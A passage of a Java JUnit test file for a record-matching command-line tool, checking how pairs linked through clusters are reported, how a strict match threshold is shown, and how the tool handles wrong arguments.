				+ parted.size() + "; scored below the queue's limit but POSSIBLE, as their two clusters taken together are "
				+ "likely enough one person: " + throughClusters.size() + " (each pair's explanation says so).");
		// the queue is no longer than the MATCH list
		assertThat(pairs.size() - matches.size()).isLessThanOrEqualTo(matches.size());
	}

	@Test
	void aStrictMatchLimitIsShownAsGiven() throws Exception {
		Path register = register("register", GeneratorConfig.forRecords(3_000, 13));
		assertThat(run("--input", register.toString(), "--output", dir.resolve("pairs.csv").toString(),
				"--threshold-match", "0.999")).isZero();
		assertThat(errors()).contains("Scored below 0.999 but MATCH through their cluster: ")
			.doesNotContain("1.00");
	}

	/** A generated register written to {@code name}.csv, its truth beside it. */
	private Path register(String name, GeneratorConfig config) {
		Path records = dir.resolve(name + ".csv");
		new PopulationGenerator().generate(config).write(records, dir.resolve(name + "-truth.csv"));
		return records;
	}

	private static List<CSVRecord> pairs(Path file) throws IOException {
		try (var reader = Files.newBufferedReader(file)) {
			return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
				.parse(reader).getRecords();
		}
	}

	@Test
	void wrongArgumentsShowTheUsage() {
		assertThat(run("--input")).isEqualTo(2);
		assertThat(errors()).contains("Usage: java -jar opennrm.jar match");
	}

}
